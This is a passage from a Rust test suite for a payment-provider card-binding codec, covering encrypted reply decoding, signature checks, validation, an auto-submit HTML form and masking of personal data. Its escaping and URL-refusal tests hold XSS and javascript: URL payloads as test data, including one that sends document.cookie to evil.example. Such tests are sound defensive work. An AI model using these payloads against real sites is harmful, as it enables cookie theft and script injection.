const DOC_REPLY: &str = r#"{     "code":"200",     "success":true,     "data":"{\"customerNo\":\"202112090603\",\"reqmsg\":\"eueJn2YkFO9hyfsv9Rhth69iVi6NpKQ8YoZ63HN8Dl47ZxvXTXXnJd37VWLKjAN6ci2zfg9jjhtA2pC/Dk/nIUeALNT3qhNiWHid1bO28SiZgdEk2hzikDa6wtbgA9VaTB0tyv1/mcPFFy1I9jeqUZOiyK7dz82lwKgX+CxmRvMh/3EKbVtzoujE5EuMTx3sOXQnIatj9Ci4XVw8hskG1KemhlQ24MczSsKZf/uKrBkmQ9RT/Imh5zpbz98ifjK44uQv7zvJPtZzF9kf9KzBTuURTfwx12EYZChLw0GgW7iBwZB03lCHb5ohg0f6cLW1FX8kq5VZq0GSIMvX92eUtw==\"}",     "msg":"操作成功" }"#;

/// The document's `reqmsg明文`, verbatim.
const DOC_PLAINTEXT: &str = r#"{ "orderNo": "BCC287242753802400", "customerNo": "202112090603", "errCode": "0000", "errMessage": "成功", "submitUrl": "www.icbc.com", "submitMethod": "POST", "encoding": "UTF-8", "submitParams": "{\"epccGwMsg\":\"这里是参数值\"}", "sign": "148C83F70C54670F4A0F711569E580A4" }"#;

#[test]
fn the_documents_reply_parses_but_its_real_vbao_ciphertext_is_refused_under_a_test_key() {
    let err = decode_reply(&HttpResponse::new(200, "application/json", DOC_REPLY.into())).unwrap_err();
    assert!(
        matches!(&err, CodecError::Cipher { field, source: cipher::CipherError::Type1Padding { index: 0 } } if field == "reqmsg"),
        "{err:?}"
    );
    assert_eq!(err.kind(), ErrorKind::SignatureInvalid);
}

#[test]
fn the_documents_plaintext_decodes_and_its_sample_sign_is_checked() {
    // The sample sign was made with Vbao's real sign key: under the test key it must not verify.
    let err = decode_reply(&reply_around(DOC_PLAINTEXT.as_bytes(), VBAO_PRIVATE_2048)).unwrap_err();
    assert_eq!(signature_source(&err), &SignatureError::Mismatch);
    // Re-signed with the test key, the same fields give the documented outcome.
    let mut fields: Map<String, Value> = serde_json::from_str(DOC_PLAINTEXT).unwrap();
    fields.remove("sign");
    let decoded = decode_reply(&reply_around(&signed_plaintext(fields), VBAO_PRIVATE_2048)).unwrap();
    assert_eq!(decoded.outcome.status, OutcomeStatus::Pending);
    assert_eq!(decoded.fields["submitParams"], "{\"epccGwMsg\":\"这里是参数值\"}");
}

// ---------------------------------------------------------------------------------------------
// Malformed input
// ---------------------------------------------------------------------------------------------

#[test]
fn malformed_replies_are_typed_errors() {
    let decode = |body: &str| decode_reply(&HttpResponse::new(200, "application/json", body.as_bytes().to_vec()));
    assert_eq!(
        decode("{not json").unwrap().outcome,
        Outcome::transport_failure(200, "HTTP 200 with a body that is not JSON")
    );
    assert_eq!(malformed_field(&decode("[1,2]").unwrap_err()), "body");
    assert_eq!(malformed_field(&decode(r#"{"success":true}"#).unwrap_err()), "code");
    assert_eq!(malformed_field(&decode(r#"{"code":["200"]}"#).unwrap_err()), "code");
    assert_eq!(
        malformed_field(&decode(r#"{"code":"200","success":"yes"}"#).unwrap_err()),
        "success"
    );
    assert_eq!(
        malformed_field(&decode(r#"{"code":"200","success":true}"#).unwrap_err()),
        "data"
    );
    assert_eq!(
        malformed_field(&decode(r#"{"code":"200","data":"{oops"}"#).unwrap_err()),
        "data"
    );
    assert_eq!(
        malformed_field(&decode(r#"{"code":"200","data":17}"#).unwrap_err()),
        "data"
    );
    assert_eq!(
        malformed_field(&decode(r#"{"code":"200","data":"{\"customerNo\":\"202112090603\"}"}"#).unwrap_err()),
        "reqmsg"
    );
    assert_eq!(
        malformed_field(
            &decode(r#"{"code":"200","data":"{\"customerNo\":\"999\",\"reqmsg\":\"AAAA\"}"}"#).unwrap_err()
        ),
        "customerNo"
    );
    let bad_b64 =
        decode(r#"{"code":"200","data":"{\"customerNo\":\"202112090603\",\"reqmsg\":\"%%%\"}"}"#).unwrap_err();
    assert_eq!(malformed_field(&bad_b64), "reqmsg");
    let short = decode(r#"{"code":"200","data":"{\"customerNo\":\"202112090603\",\"reqmsg\":\"AAAA\"}"}"#).unwrap_err();
    assert!(matches!(
        short,
        CodecError::Cipher {
            source: cipher::CipherError::BlockLength { len: 3, block: 256 },
            ..
        }
    ));
    // JSON inside reqmsg that is not JSON.
    let err = decode_reply(&reply_around(b"errCode=0000", VBAO_PRIVATE_2048)).unwrap_err();
    assert_eq!(malformed_field(&err), "reqmsg");
    let err = decode_reply(&reply_around(&[0xff, 0xfe], VBAO_PRIVATE_2048)).unwrap_err();
    assert_eq!(malformed_field(&err), "reqmsg");
    // Wrong types inside.
    let err = decode_reply(&reply_around(
        &signed_plaintext(obj(json!({"orderNo": "o"}))),
        VBAO_PRIVATE_2048,
    ))
    .unwrap_err();
    assert_eq!(validation(&err), ("errCode", &ValidationRule::Required));
    // A documented string sent as a number is refused before the signature is even checked:
    // `"1002"` and `1002` sign alike.
    let plain = json!({"orderNo": "o", "errCode": 1002, "errMessage": "e"}).to_string();
    let err = decode_reply(&reply_around(plain.as_bytes(), VBAO_PRIVATE_2048)).unwrap_err();
    assert_eq!(
        err,
        CodecError::Malformed {
            field: "errCode".into(),
            reason: "expected a JSON string".into()
        }
    );
    let inner = signed_plaintext(obj(
        json!({"customerNo": "other", "orderNo": "o", "errCode": "1002", "errMessage": "e"}),
    ));
    let err = decode_reply(&reply_around(&inner, VBAO_PRIVATE_2048)).unwrap_err();
    assert_eq!(malformed_field(&err), "reqmsg.customerNo");
    // Oversized.
    let huge = HttpResponse::new(
        200,
        "application/json",
        vec![b' '; cardbind::providers::vbao::MAX_BODY + 1],
    );
    assert_eq!(
        decode_reply(&huge).unwrap_err(),
        CodecError::LimitExceeded {
            what: "response body",
            limit: cardbind::providers::vbao::MAX_BODY
        }
    );
}

#[test]
fn reply_signatures_are_enforced() {
    let fields = obj(
        json!({"orderNo": "o", "errCode": "0000", "errMessage": "成功", "submitUrl": "https://b.cn/x", "submitMethod": "GET"}),
    );
    // Missing sign on a success: refused.
    let unsigned_success = Value::Object(fields.clone()).to_string();
    let err = decode_reply(&reply_around(unsigned_success.as_bytes(), VBAO_PRIVATE_2048)).unwrap_err();
    assert_eq!(signature_source(&err), &SignatureError::Missing);
    assert_eq!(err.kind(), ErrorKind::SignatureInvalid);
    // Missing sign on a failure: accepted, reported as not signed.
    let unsigned_failure = json!({"orderNo": "o", "errCode": "2106", "errMessage": "订单不存在"}).to_string();
    let decoded = decode_reply(&reply_around(unsigned_failure.as_bytes(), VBAO_PRIVATE_2048)).unwrap();
    assert_eq!(decoded.signature, cardbind::model::SignatureCheck::NotSigned);
    assert_eq!(decoded.outcome.error_kind(), Some(ErrorKind::OrderNotFound));
    // Tampered after signing.
    let mut signed: Map<String, Value> = serde_json::from_slice(&signed_plaintext(fields.clone())).unwrap();
    signed.insert("submitUrl".into(), json!("https://evil.example/x"));
    let err = decode_reply(&reply_around(
        Value::Object(signed.clone()).to_string().as_bytes(),
        VBAO_PRIVATE_2048,
    ))
    .unwrap_err();
    assert_eq!(signature_source(&err), &SignatureError::Mismatch);
    // An extra field smuggled in after signing is covered too (with the opt-in that lets an
    // unlisted field through at all).
    let mut extra: Map<String, Value> = serde_json::from_slice(&signed_plaintext(fields.clone())).unwrap();
    extra.insert("note".into(), json!("x"));
    let err = merchant_opted_in()
        .decode_response(
            BIND_CARD_CREATE,
            &reply_around(Value::Object(extra).to_string().as_bytes(), VBAO_PRIVATE_2048),
            &mut Context::new(&mut rng(), None),
        )
        .unwrap_err();
    assert_eq!(signature_source(&err), &SignatureError::Mismatch);
    // Lower-case hex is accepted by default, refused under an exact-case profile.
    let mut lower: Map<String, Value> = serde_json::from_slice(&signed_plaintext(fields.clone())).unwrap();
    let sign = lower["sign"].as_str().unwrap().to_ascii_lowercase();
    lower.insert("sign".into(), json!(sign));
    let reply = reply_around(Value::Object(lower).to_string().as_bytes(), VBAO_PRIVATE_2048);
    assert!(decode_reply(&reply).is_ok());
    let mut cfg = config();
    cfg.their_public_key = Some(VBAO_PUBLIC_2048.into());
    cfg.profile.signature.algorithm = SignatureAlgorithm::Md5Hex {
        salt_prefix: Some("&key=".into()),
        case: HexCase::Upper,
        verify_case: CaseRule::Exact,
    };
    let strict = VbaoCodec::new(cfg).unwrap();
    let err = strict
        .decode_response(BIND_CARD_CREATE, &reply, &mut Context::new(&mut rng(), None))
        .unwrap_err();
    assert_eq!(
        signature_source(&err),
        &SignatureError::WrongCase {
            expected: HexCase::Upper
        }
    );
    // Garbage in sign.
    let mut junk: Map<String, Value> = serde_json::from_slice(&signed_plaintext(fields.clone())).unwrap();
    junk.insert("sign".into(), json!("not-hex"));
    let err = decode_reply(&reply_around(
        Value::Object(junk).to_string().as_bytes(),
        VBAO_PRIVATE_2048,
    ))
    .unwrap_err();
    assert_eq!(signature_source(&err), &SignatureError::MalformedHex);
    // A reply recovered with the wrong public key.
    let reply = reply_for(&fields);
    let err = merchant_with(OTHER_PUBLIC_1024)
        .decode_response(BIND_CARD_CREATE, &reply, &mut Context::new(&mut rng(), None))
        .unwrap_err();
    assert!(matches!(err, CodecError::Cipher { .. }), "{err:?}");
}

#[test]
fn a_different_sign_key_does_not_verify() {
    let reply = reply_for(&obj(json!({"orderNo": "o", "errCode": "0000", "errMessage": "ok"})));
    let mut cfg = config();
    cfg.sign_key = "another-key".into();
    cfg.their_public_key = Some(VBAO_PUBLIC_2048.into());
    let err = VbaoCodec::new(cfg)
        .unwrap()
        .decode_response(BIND_CARD_CREATE, &reply, &mut Context::new(&mut rng(), None))
        .unwrap_err();
    assert_eq!(signature_source(&err), &SignatureError::Mismatch);
}

#[test]
fn malformed_requests_are_typed_errors_in_the_vbao_role() {
    let vbao = vbao();
    let decode = |body: &[u8]| {
        vbao.decode_request(
            &HttpRequest::post(CREATE_URL, "application/json", body.to_vec()),
            &mut Context::new(&mut rng(), None),
        )
    };
    assert_eq!(malformed_field(&decode(b"\xff\xfe").unwrap_err()), "body");
    assert_eq!(
        malformed_field(&decode(br#"{"customerNo":"202112090603"}"#).unwrap_err()),
        "reqmsg"
    );
    assert_eq!(
        malformed_field(&decode(br#"{"customerNo":1,"reqmsg":"AA=="}"#).unwrap_err()),
        "customerNo"
    );
    assert_eq!(
        malformed_field(&decode(br#"{"customerNo":"202112090603","reqmsg":"@@@"}"#).unwrap_err()),
        "reqmsg"
    );
    // Encrypted under another key.
    let request = merchant_with(OTHER_PUBLIC_1024)
        .encode_request(BIND_CARD_CREATE, &create_params(), &mut Context::new(&mut rng(), None))
        .unwrap();
    let err = vbao
        .decode_request(&request, &mut Context::new(&mut rng(), None))
        .unwrap_err();
    assert!(matches!(err, CodecError::Cipher { .. }), "{err:?}");
    // Decrypts, but is not signed / is tampered / lacks a required field.
    let encrypt = |plain: &[u8]| {
        let key = cardbind::PublicKey::parse(VBAO_PUBLIC_2048).unwrap();
        let ct = cipher::rsa_encrypt_blocks(&key, &mut rng(), plain).unwrap();
        json!({"customerNo": CUSTOMER_NO, "reqmsg": encode_base64(&ct)})
            .to_string()
            .into_bytes()
    };
    let mut fields = create_params();
    fields.insert("customerNo".into(), json!(CUSTOMER_NO));
    let err = decode(&encrypt(Value::Object(fields.clone()).to_string().as_bytes())).unwrap_err();
    assert_eq!(signature_source(&err), &SignatureError::Missing);
    let mut tampered: Map<String, Value> = serde_json::from_slice(&signed_plaintext(fields.clone())).unwrap();
    tampered.insert("mobile".into(), json!("13900000000"));
    let err = decode(&encrypt(Value::Object(tampered).to_string().as_bytes())).unwrap_err();
    assert_eq!(signature_source(&err), &SignatureError::Mismatch);
    fields.remove("orderNo");
    let err = decode(&encrypt(&signed_plaintext(fields))).unwrap_err();
    assert_eq!(validation(&err), ("orderNo", &ValidationRule::Required));
    assert_eq!(err.kind(), ErrorKind::InvalidParameter);
    // Merchant receiving a notification that is not Vbao's.
    let forged = vbao_with(OTHER_PRIVATE_1024)
        .encode_request(BIND_NOTIFY, &notify_fields("0000"), &mut Context::new(&mut rng(), None))
        .unwrap();
    let err = merchant()
        .decode_request(&forged, &mut Context::new(&mut rng(), None))
        .unwrap_err();
    assert!(matches!(err, CodecError::Cipher { .. }), "{err:?}");
}

#[test]
fn encoder_rules_beyond_the_table() {
    let codec = merchant();
    let with = |name: &str, value: Value| {
        let mut p = create_params();
        p.insert(name.into(), value);
        codec.encode_request(BIND_CARD_CREATE, &p, &mut Context::new(&mut rng(), None))
    };
    let rule = |name: &str, value: Value| validation(&with(name, value).unwrap_err()).1.clone();
    assert_eq!(rule("mobile", json!("2881234567x")), ValidationRule::MobileFormat);
    assert_eq!(
        rule("certNo", json!("110105194912310021")),
        ValidationRule::IdNumberChecksum
    );
    assert_eq!(rule("bankCardName", json!("  ")), ValidationRule::Required);
    assert_eq!(
        rule("expiredTime", json!("2023-02-29 12:00:00")),
        ValidationRule::Format {
            expected: "yyyy-MM-dd HH:mm:ss".into()
        }
    );
    // An empty optional field would not be signed, so it is refused (naming it); a null is
    // absent (the spec's empty_values).
    assert_eq!(rule("expiredTime", json!("")), ValidationRule::EmptyNotSigned);
    assert!(with("expiredTime", Value::Null).is_ok());
    assert_eq!(
        rule("bindNotifyUrl", json!("javascript:alert(1)")),
        ValidationRule::HttpUrl
    );
    assert_eq!(rule("pageReturnUrl", json!("ftp://x.cn/")), ValidationRule::HttpUrl);
    assert_eq!(
        rule("identifyId", json!("no-at-sign")),
        ValidationRule::Format {
            expected: "an e-mail address (name@domain) for userType EMAIL".into()
        }
    );
    assert_eq!(
        rule("orderNo", json!(12)),
        ValidationRule::Type {
            expected: "string".into()
        }
    );
    assert_eq!(rule("cardNo", json!("6222020000000000")), ValidationRule::UnknownField);
    assert_eq!(rule("customerNo", json!(CUSTOMER_NO)), ValidationRule::UnknownField);
    assert_eq!(rule("sign", json!("X")), ValidationRule::Reserved);
    let mut p = create_params();
    p.insert("userType".into(), json!("PHONE"));
    p.insert("identifyId".into(), json!("12345"));
    let err = codec
        .encode_request(BIND_CARD_CREATE, &p, &mut Context::new(&mut rng(), None))
        .unwrap_err();
    assert_eq!(validation(&err), ("identifyId", &ValidationRule::MobileFormat));
    p.insert("userType".into(), json!("ID_CARD"));
    let err = codec
        .encode_request(BIND_CARD_CREATE, &p, &mut Context::new(&mut rng(), None))
        .unwrap_err();
    assert_eq!(
        validation(&err),
        ("identifyId", &ValidationRule::ExactLength { len: 18 })
    );
    // A passport number is not a mainland ID: no checksum rule.
    assert!(with("certType", json!("PASSPORT")).is_ok_and(|_| true));
    let mut p = create_params();
    p.insert("certType".into(), json!("PASSPORT"));
    p.insert("certNo".into(), json!("E12345678"));
    assert!(codec
        .encode_request(BIND_CARD_CREATE, &p, &mut Context::new(&mut rng(), None))
        .is_ok());
}

#[test]
fn notification_encoding_rules() {
    let vbao = vbao();
    let encode =
        |fields: Map<String, Value>| vbao.encode_request(BIND_NOTIFY, &fields, &mut Context::new(&mut rng(), None));
    let mut f = notify_fields("0000");
    f.remove("bindCardId");
    assert_eq!(
        validation(&encode(f).unwrap_err()),
        (
            "bindCardId",
            &ValidationRule::RequiredWhen {
                condition: "errCode is 0000".into()
            }
        )
    );
    let mut f = notify_fields("0000");
    f.remove("bindNotifyUrl");
    assert_eq!(
        validation(&encode(f).unwrap_err()),
        ("bindNotifyUrl", &ValidationRule::Required)
    );
    let mut f = notify_fields("0000");
    f.insert("bindNotifyUrl".into(), json!(" JavaScript:alert(1)"));
    assert_eq!(
        validation(&encode(f).unwrap_err()),
        ("bindNotifyUrl", &ValidationRule::HttpUrl)
    );
    let mut f = notify_fields("0000");
    f.insert("sign".into(), json!("X"));
    assert_eq!(
        validation(&encode(f).unwrap_err()),
        ("sign", &ValidationRule::UnknownField)
    );
    let mut f = notify_fields("0000");
    f.remove("errMessage");
    assert_eq!(
        validation(&encode(f).unwrap_err()),
        ("errMessage", &ValidationRule::Required)
    );
}

#[test]
fn reply_encoding_rules() {
    let vbao = vbao();
    let encode = |v: Value| vbao.encode_response(BIND_CARD_CREATE, &obj(v), &mut Context::new(&mut rng(), None));
    assert_eq!(
        validation(&encode(json!({"orderNo": "o", "errMessage": "m"})).unwrap_err()),
        ("errCode", &ValidationRule::Required)
    );
    assert_eq!(
        validation(&encode(json!({"orderNo": "o", "errCode": "0000", "errMessage": "m", "sign": "S"})).unwrap_err()),
        ("sign", &ValidationRule::UnknownField)
    );
    assert_eq!(
        validation(
            &encode(json!({"orderNo": "o", "errCode": "0000", "errMessage": "m", "submitMethod": "PUT"})).unwrap_err()
        )
        .0,
        "submitMethod"
    );
    // An unlisted field needs the opt-in, as everywhere (it used to be kept without one).
    assert_eq!(
        validation(&encode(json!({"orderNo": "o", "errCode": "0000", "errMessage": "m", "extra": "1"})).unwrap_err()),
        ("extra", &ValidationRule::UnknownField)
    );
    assert_eq!(
        validation(&encode(json!({"orderNo": "o", "errCode": "0".repeat(33), "errMessage": "m"})).unwrap_err()),
        ("errCode", &ValidationRule::MaxLength { max: 32 })
    );
}

// ---------------------------------------------------------------------------------------------
// The submit form
// ---------------------------------------------------------------------------------------------

const SCRIPT: &str =
    "<script>HTMLFormElement.prototype.submit.call(document.forms[\"unionpay_punchout_form\"]);</script>\n";

#[test]
fn form_matches_the_documents_shape_exactly() {
    let html = render_submit_form(
        "https://epcc.example.cn/gateway",
        "POST",
        Some("UTF-8"),
        Some("{\"epccGwMsg\":\"这里是参数值\"}"),
    )
    .unwrap();
    assert_eq!(
        html,
        format!(
            "<form name=\"unionpay_punchout_form\" method=\"POST\" action=\"https://epcc.example.cn/gateway\" accept-charset=\"UTF-8\">\n\
             <input type=\"hidden\" name=\"epccGwMsg\" value=\"这里是参数值\">\n\
             </form>\n{SCRIPT}"
        )
    );
}

#[test]
fn form_escapes_every_hostile_value() {
    // Raw JSON text: numbers keep their text (12.50, not 12.5).
    let params = r#"{"\"><script>alert(1)</script>": "\" onfocus=\"alert(1)\" autofocus x=\"",
        "a'b": "<script>document.location='https://evil.example/?c='+document.cookie</script>",
        "amp": "a&b&amp;c",
        "submit": "shadowing form.submit is harmless here",
        "n": 12.50,
        "t": true}"#;
    let html = render_submit_form("https://bank.example.com/p?x=1&y=\"2\"", "pOsT", None, Some(params)).unwrap();
    assert_eq!(
        html,
        format!(
            "<form name=\"unionpay_punchout_form\" method=\"POST\" action=\"https://bank.example.com/p?x=1&amp;y=&quot;2&quot;\">\n\
             <input type=\"hidden\" name=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\" value=\"&quot; onfocus=&quot;alert(1)&quot; autofocus x=&quot;\">\n\
             <input type=\"hidden\" name=\"a&#39;b\" value=\"&lt;script&gt;document.location=&#39;https://evil.example/?c=&#39;+document.cookie&lt;/script&gt;\">\n\
             <input type=\"hidden\" name=\"amp\" value=\"a&amp;b&amp;amp;c\">\n\
             <input type=\"hidden\" name=\"submit\" value=\"shadowing form.submit is harmless here\">\n\
             <input type=\"hidden\" name=\"n\" value=\"12.50\">\n\
             <input type=\"hidden\" name=\"t\" value=\"true\">\n\
             </form>\n{SCRIPT}"
        )
    );
    // Nothing hostile survives unescaped: the only tags are ours.
    assert_eq!(html.matches('<').count(), 2 + 6 + 2);
}

#[test]
fn form_refuses_every_non_http_action() {
    for url in [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "JAVASCRIPT://%0aalert(1)",
        " javascript:alert(1)",
        "\tjavascript:alert(1)",
        "java\nscript:alert(1)",
        "java\tscript://x/%0aalert(1)",
        "jav&#x61;script:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "https:evil.example",
        "//evil.example/x",
        "http://",
        "https://:443/x",
        "https:///x",
        " https://bank.example/x",
        "https://bank.example/x\n",
        "https://bank.example/\u{0}x",
        "https://bank.example/\u{a0}x",
        "https:\\\\evil.example",
        "www.icbc.com",
        "",
    ] {
        let err = render_submit_form(url, "POST", None, None).unwrap_err();
        assert_eq!(validation(&err), ("submitUrl", &ValidationRule::HttpUrl), "{url:?}");
    }
    for url in [
        "HTTPS://BANK.EXAMPLE/p",
        "Http://bank.example:8080",
        "https://user@bank.example/",
    ] {
        assert!(render_submit_form(url, "POST", None, None).is_ok(), "{url}");
    }
}

#[test]
fn form_method_is_get_or_post_in_any_case_and_nothing_else() {
    for m in ["GET", "get", "Get", "POST", "post", "PoSt"] {
        assert!(render_submit_form("https://b.cn/", m, None, None).is_ok(), "{m}");
    }
    for m in ["PUT", "", " POST", "POST ", "POSTX", "GE T", "dialog", "\"post\""] {
        let err = render_submit_form("https://b.cn/", m, None, None).unwrap_err();
        assert_eq!(
            validation(&err),
            (
                "submitMethod",
                &ValidationRule::OneOf {
                    allowed: vec!["GET".into(), "POST".into()]
                }
            ),
            "{m:?}"
        );
    }
}

#[test]
fn get_forms_carry_the_actions_query_as_inputs() {
    // A browser submitting a GET form replaces the action's query with the form's fields.
    let html = render_submit_form(
        "https://bank.example/bind?token=a%2Bb+c&lang=zh#frag",
        "get",
        None,
        Some("{\"x\":\"<1>\"}"),
    )
    .unwrap();
    assert_eq!(
        html,
        format!(
            "<form name=\"unionpay_punchout_form\" method=\"GET\" action=\"https://bank.example/bind\">\n\
             <input type=\"hidden\" name=\"token\" value=\"a+b c\">\n\
             <input type=\"hidden\" name=\"lang\" value=\"zh\">\n\
             <input type=\"hidden\" name=\"x\" value=\"&lt;1&gt;\">\n\
             </form>\n{SCRIPT}"
        )
    );
    let err = render_submit_form("https://bank.example/bind?bad=%zz", "GET", None, None).unwrap_err();
    assert_eq!(validation(&err).0, "submitUrl");
}

#[test]
fn form_refuses_bad_params_and_encodings() {
    let err = render_submit_form("https://b.cn/", "POST", None, Some("{not json")).unwrap_err();
    assert_eq!(malformed_field(&err), "submitParams");
    let err = render_submit_form("https://b.cn/", "POST", None, Some("[\"a\"]")).unwrap_err();
    assert_eq!(
        validation(&err),
        (
            "submitParams",
            &ValidationRule::Type {
                expected: "object".into()
            }
        )
    );
    for nested in ["{\"a\":{\"b\":1}}", "{\"a\":[1]}", "{\"a\":null}"] {
        let err = render_submit_form("https://b.cn/", "POST", None, Some(nested)).unwrap_err();
        assert_eq!(validation(&err).0, "submitParams", "{nested}");
    }
    for enc in ["UTF-8\" onload=\"x", "", "utf 8", "<b>"] {
        let err = render_submit_form("https://b.cn/", "POST", Some(enc), None).unwrap_err();
        assert_eq!(validation(&err).0, "encoding", "{enc:?}");
    }
    let fields = obj(json!({"submitMethod": "POST"}));
    let err = cardbind::providers::vbao::SubmitForm::from_fields(&fields).unwrap_err();
    assert_eq!(validation(&err), ("submitUrl", &ValidationRule::Required));
}

// ---------------------------------------------------------------------------------------------
// Configuration, roles, unified mapping
// ---------------------------------------------------------------------------------------------

#[test]
fn configuration_errors_are_typed() {
    let config_what = |cfg: VbaoConfig| match VbaoCodec::new(cfg).unwrap_err() {
        CodecError::Config { field, reason } => format!("{field}: {reason}"),
        other => panic!("{other:?}"),
    };
    assert!(config_what(config()).contains("their_public_key"));
    let mut c = config();
    c.their_public_key = Some(VBAO_PUBLIC_2048.into());
    c.customer_no = String::new();
    assert!(config_what(c).contains("customer_no"));
    let mut c = config();
    c.their_public_key = Some(VBAO_PUBLIC_2048.into());
    c.sign_key = String::new();
    assert!(config_what(c).contains("sign_key"));
    let mut c = config();
    c.their_public_key = Some(VBAO_PUBLIC_2048.into());
    c.profile.signature.algorithm = SignatureAlgorithm::RsaPkcs1v15 {
        digest: cardbind::DigestAlgorithm::Md5,
    };
    assert!(config_what(c).contains("md5_hex"));
    let mut c = config();
    c.their_public_key = Some(VBAO_PRIVATE_2048.into());
    assert!(matches!(
        VbaoCodec::new(c).unwrap_err(),
        CodecError::Key { field, source: cardbind::KeyError::PrivateWherePublicExpected } if field == "their_public_key"
    ));
    let mut c = config();
    c.our_private_key = Some("not a key".into());
    assert!(matches!(VbaoCodec::new(c).unwrap_err(), CodecError::Key { field, .. } if field == "our_private_key"));
    let err = VbaoCodec::from_config_json(r#"{"customer_no":"1","sign_key":"k","their_public_key":null,"typo":1}"#)
        .unwrap_err();
    assert_eq!(
        err.to_string(),
        "configuration: typo: unknown key; valid keys: `customer_no`, `sign_key`, `their_public_key`, \
         `our_private_key`, `base_url`, `profile`, `allow_unlisted_fields`"
    );
}

#[test]
fn config_json_with_profile_overrides() {
    let json = json!({
        "customer_no": CUSTOMER_NO,
        "sign_key": SIGN_KEY,
        "their_public_key": VBAO_PUBLIC_2048,
        "our_private_key": VBAO_PRIVATE_2048,
        "profile": {"customer_no_in_reqmsg": false}
    })
    .to_string();
    let codec = VbaoCodec::from_config_json(&json).unwrap();
    let mut r = rng();
    let request = codec
        .encode_request(BIND_CARD_CREATE, &create_params(), &mut Context::new(&mut r, None))
        .unwrap();
    let decoded = codec.decode_request(&request, &mut Context::new(&mut r, None)).unwrap();
    assert!(!decoded.fields.contains_key("customerNo"));
    assert_eq!(decoded.fields["orderNo"], "2022090700001");
    // A salt override changes the signature: the default profile no longer verifies it.
    let mut cfg = config();
    cfg.our_private_key = Some(VBAO_PRIVATE_2048.into());
    cfg.profile.signature.algorithm = SignatureAlgorithm::Md5Hex {
        salt_prefix: Some("&secret=".into()),
        case: HexCase::Upper,
        verify_case: CaseRule::Insensitive,
    };
    let salted = VbaoCodec::new(cfg).unwrap();
    let reply = salted
        .encode_response(
            BIND_CARD_CREATE,
            &obj(json!({"orderNo": "o", "errCode": "0000", "errMessage": "m"})),
            &mut Context::new(&mut r, None),
        )
        .unwrap();
    assert_eq!(
        signature_source(&decode_reply(&reply).unwrap_err()),
        &SignatureError::Mismatch
    );
}

#[test]
fn each_role_needs_its_key() {
    let mut r = rng();
    let config_err = |e: CodecError| matches!(e, CodecError::Config { .. });
    assert!(config_err(
        vbao()
            .encode_request(BIND_CARD_CREATE, &create_params(), &mut Context::new(&mut r, None))
            .unwrap_err()
    ));
    assert!(config_err(
        merchant()
            .encode_response(BIND_CARD_CREATE, &Map::new(), &mut Context::new(&mut r, None))
            .unwrap_err()
    ));
    assert!(config_err(
        merchant()
            .encode_request(BIND_NOTIFY, &notify_fields("0000"), &mut Context::new(&mut r, None))
            .unwrap_err()
    ));
    let reply = reply_for(&obj(json!({"orderNo": "o", "errCode": "0000", "errMessage": "m"})));
    assert!(config_err(
        vbao()
            .decode_response(BIND_CARD_CREATE, &reply, &mut Context::new(&mut r, None))
            .unwrap_err()
    ));
    for op in ["bankcardbind", "bindCard/query", ""] {
        assert!(matches!(
            merchant()
                .encode_request(op, &Map::new(), &mut Context::new(&mut r, None))
                .unwrap_err(),
            CodecError::UnsupportedOperation { .. }
        ));
        assert!(matches!(
            merchant()
                .decode_response(op, &reply, &mut Context::new(&mut r, None))
                .unwrap_err(),
            CodecError::UnsupportedOperation { .. }
        ));
    }
}

#[test]
fn unified_requests_map_onto_vbao_operations() {
    let codec = merchant();
    let apply = UnifiedRequest::BindCardApply(BindCardApply {
        user_id: "u1".into(),
        card_number: CardNumber::new("card", "6222022005001212726").unwrap(),
        phone: Phone::new("phone", "13900139000").unwrap(),
        holder_name: None,
        id_number: None,
        bank: None,
        card_type: None,
        order_id: None,
        verify_code: None,
        extra: Map::new(),
    });
    // Vbao has no card-number field: refusing beats silently dropping the number.
    assert_eq!(
        validation(&codec.to_wire(&apply).unwrap_err()),
        ("card_number", &ValidationRule::UnknownField)
    );
    let other = UnifiedRequest::Other {
        operation: Operation::BindCardApply,
        fields: create_params(),
    };
    assert_eq!(codec.to_wire(&other).unwrap(), (BIND_CARD_CREATE, create_params()));
    let request = codec
        .encode_unified(&other, &mut Context::new(&mut rng(), None))
        .unwrap();
    assert_eq!(request.url, CREATE_URL);
    let notify = UnifiedRequest::Other {
        operation: Operation::BindResultNotification,
        fields: notify_fields("0000"),
    };
    assert_eq!(codec.to_wire(&notify).unwrap().0, BIND_NOTIFY);
    assert!(matches!(
        codec
            .to_wire(&UnifiedRequest::ListBoundCards { user_id: "u".into() })
            .unwrap_err(),
        CodecError::UnsupportedOperation { .. }
    ));
}

// ---------------------------------------------------------------------------------------------
// Masking
// ---------------------------------------------------------------------------------------------

#[test]
fn personal_data_never_shows_in_debug_or_errors() {
    let mut r = rng();
    let mut params = create_params();
    params.insert("userType".into(), json!("PHONE"));
    params.insert("identifyId".into(), json!("13712345678"));
    let request = merchant()
        .encode_request(BIND_CARD_CREATE, &params, &mut Context::new(&mut r, None))
        .unwrap();
    let decoded = vbao()
        .decode_request(&request, &mut Context::new(&mut r, None))
        .unwrap();
    let debug = format!("{decoded:?} {request:?}");
    for secret in ["11010519491231002X", "18812345678", "13712345678", "张三"] {
        assert!(!debug.contains(secret), "{secret} in {debug}");
    }
    assert!(debug.contains("110*************2X"));
    assert!(debug.contains("188****5678"));

    let notification = vbao()
        .encode_request(
            BIND_NOTIFY,
            &obj(
                json!({"orderNo": "o", "errCode": "0000", "errMessage": "m", "bindCardId": "B",
                        "bankCardNo": "6222020000001234", "bindNotifyUrl": NOTIFY_URL}),
            ),
            &mut Context::new(&mut r, None),
        )
        .unwrap();
    let received = merchant()
        .decode_request(&notification, &mut Context::new(&mut r, None))
        .unwrap();
    assert!(!format!("{received:?}").contains("6222020000001234"));

    // Errors name fields and rules, never values.
    for (name, value) in [
        ("certNo", "110105194912310021"),
        ("mobile", "2881234567x"),
        ("bankCardName", &"张".repeat(65)),
        ("identifyId", "not-an-email-13712345678"),
    ] {
        let mut p = create_params();
        p.insert(name.into(), json!(value));
        let err = merchant()
            .encode_request(BIND_CARD_CREATE, &p, &mut Context::new(&mut r, None))
            .unwrap_err();
        let shown = format!("{err} {err:?}");
        assert!(!shown.contains(value), "{shown}");
        assert!(shown.contains(name), "{shown}");
    }

    let mut cfg = config();
    cfg.their_public_key = Some(VBAO_PUBLIC_2048.into());
    cfg.our_private_key = Some(VBAO_PRIVATE_2048.into());
